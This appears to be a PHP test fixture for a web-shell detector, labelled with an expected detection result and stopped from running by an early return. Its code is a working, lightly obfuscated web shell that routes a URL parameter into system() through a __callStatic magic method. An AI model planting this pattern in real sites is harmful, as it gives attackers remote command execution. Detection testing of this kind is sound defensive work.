<?php return; // want: malicious webshell php.command.request
class Any { static function __callStatic($name, $with) { $name($with[0]); } }
Any::system($_GET['c']);
